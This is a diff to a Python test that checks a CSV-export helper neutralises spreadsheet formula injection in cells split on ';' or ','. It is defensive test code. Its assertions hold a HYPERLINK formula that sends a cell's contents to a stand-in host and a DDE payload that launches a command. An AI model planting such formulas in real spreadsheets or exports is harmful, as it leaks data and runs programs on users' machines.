@@ -175,6 +175,12 @@ def test_csv_cell() -> None:
         "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", ""]
     assert [csv_cell(v) for v in (-3, 1.5, None, True, ["-a", "b"], {"k": 1})] == [
         -3, 1.5, "", "True", "'-a;b", '{"k": 1}']
+    # A piece after a separator is a cell of its own where a spreadsheet splits on ";"
+    # (Excel in ru and kk locales) or ",": each is neutralised too.
+    assert csv_cell('3.0;=HYPERLINK("http://x/?"&A1)') == "3.0;'=HYPERLINK(\"http://x/?\"&A1)"
+    assert csv_cell(["ok", "=cmd|' /C calc'!A0"]) == "ok;'=cmd|' /C calc'!A0"
+    assert csv_cell('a, "@SUM(1)') == "a, \"'@SUM(1)"
+    assert csv_cell("a; b, c") == "a; b, c"
 
 
 def test_the_cli_export_is_audited(cli: Any, sent: dict[str, Any], kelisim: Kelisim) -> None:
